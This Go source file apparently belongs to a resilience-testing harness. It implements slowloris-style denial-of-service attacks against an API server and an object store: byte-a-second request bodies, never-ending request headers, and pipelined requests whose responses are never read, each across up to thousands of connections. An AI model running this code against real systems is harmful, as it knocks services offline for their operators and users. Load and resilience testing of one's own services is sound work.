package attack

import (
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// hold opens n connections to an address, handles each with keep, and replaces
// those that are closed, until the attack is over.
func (a *attacker) hold(n int, address string, keep func(net.Conn) error) {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for a.ends.Err() == nil {
				conn, err := (&net.Dialer{Timeout: 2 * time.Second}).DialContext(a.ends, "tcp", address)
				if err != nil {
					a.lost(err)
					pause(a.ends, 100*time.Millisecond)
					continue
				}
				stop := make(chan struct{})
				go func() {
					select {
					case <-a.ends.Done():
					case <-stop:
					}
					conn.Close()
				}()
				err = keep(conn)
				close(stop)
				if a.ends.Err() != nil {
					a.answer("held")
					return
				}
				a.lost(err)
				pause(a.ends, 10*time.Millisecond)
			}
		})
	}
	all.Wait()
}

// both holds connections to both listeners at once.
func (a *attacker) both(n int, api, store func(net.Conn) error) {
	base, _ := a.Ours.objects()
	var two sync.WaitGroup
	two.Go(func() { a.hold(n, hostOf(a.Credentials.BaseURL), api) })
	two.Go(func() { a.hold(n, hostOf(base), store) })
	two.Wait()
}

// slowBodies sends bodies at a byte a second.
func slowBodies(a *attacker) {
	slowly := func(head string) func(net.Conn) error {
		return func(conn net.Conn) error {
			if _, err := io.WriteString(conn, head); err != nil {
				return err
			}
			for {
				if _, err := conn.Write([]byte{' '}); err != nil {
					return err
				}
				pause(a.ends, time.Second)
			}
		}
	}
	_, part := a.Ours.objects()
	api := fmt.Sprintf("POST /runs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n", a.Owner)
	store := fmt.Sprintf("PUT %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 4000000\r\n\r\n", part.RequestURI(), part.Host)
	a.both(size(100, 2000), slowly(api), slowly(store))
}

// halfOpen sends requests that never end.
func halfOpen(a *attacker) {
	keep := func(conn net.Conn) error {
		if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\n"); err != nil {
			return err
		}
		_, err := conn.Read(make([]byte, 1))
		return err
	}
	a.both(size(150, 5000), keep, keep)
}

// neverReading sends requests for large responses and does not read them.
func neverReading(a *attacker) {
	asked := strings.Repeat("GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n", 100)
	a.hold(size(50, 1000), hostOf(a.Credentials.BaseURL), func(conn net.Conn) error {
		for {
			if _, err := io.WriteString(conn, asked); err != nil {
				return err
			}
		}
	})
}
